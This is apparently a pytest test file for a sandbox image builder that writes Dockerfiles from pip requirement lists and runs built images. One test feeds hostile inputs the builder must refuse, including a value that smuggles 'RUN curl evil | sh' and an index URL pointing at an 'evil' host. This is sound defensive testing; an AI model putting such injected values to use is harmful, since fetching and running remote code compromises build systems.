"""Building sandbox images with extra packages (``society sandbox build``)."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Iterator

import docker
import docker.errors
import pytest

from sandbox import BuildError, ImageMissing, Sandbox, SandboxSettings, build_image, default_tag
from sandbox.images import dockerfile
from tests.sandbox.conftest import SESSION, label

pytestmark = pytest.mark.timeout(120)


def test_dockerfile_installs_the_packages_and_checks_python() -> None:
    text = dockerfile(["numpy==2.1.0", "pandas[performance]>=2"], base="python:3.12-slim")
    assert text.splitlines()[0] == "FROM python:3.12-slim"
    assert "RUN python3 -m pip install numpy==2.1.0 'pandas[performance]>=2'" in text
    assert text.rstrip().endswith('RUN python3 -c "import sys; print(sys.version)"')
    assert "pip install" not in dockerfile([])


@pytest.mark.parametrize(
    "bad", ["--index-url=http://evil", "-r requirements.txt", "x\nRUN curl evil | sh", ""]
)
def test_pip_options_and_shell_are_refused(bad: str) -> None:
    with pytest.raises(BuildError, match="not a pip requirement"):
        dockerfile([bad])


def test_default_tag_names_the_package_set() -> None:
    assert default_tag(["b", "a"]) == default_tag(["a", "b"])
    assert default_tag(["a"]) != default_tag(["a"], base="python:3.11-slim")
    assert default_tag([]).startswith("society-sandbox:")


@pytest.fixture
def built_tag(docker_client: docker.DockerClient) -> Iterator[str]:
    tag = f"society-sandbox:{SESSION}"
    yield tag
    with contextlib.suppress(docker.errors.ImageNotFound):
        docker_client.images.remove(tag, force=True)


@pytest.mark.docker
async def test_built_image_runs_in_the_sandbox(settings: SandboxSettings, built_tag: str) -> None:
    # No registry is needed without packages; with them the build needs a network.
    tag = await asyncio.to_thread(build_image, [], tag=built_tag, network="none")
    assert tag == built_tag
    custom = settings.model_copy(update={"image": tag, "pool_size": 0})
    async with Sandbox(custom, label=label("built")) as sb:
        result = await sb.execute("import sys; print(sys.version_info[0])")
    assert result.stdout == "3\n"


@pytest.mark.docker
async def test_missing_base_image(docker_client: docker.DockerClient) -> None:
    with pytest.raises(ImageMissing, match="society-no-such-base"):
        await asyncio.to_thread(build_image, [], base="society-no-such-base:1", network="none")
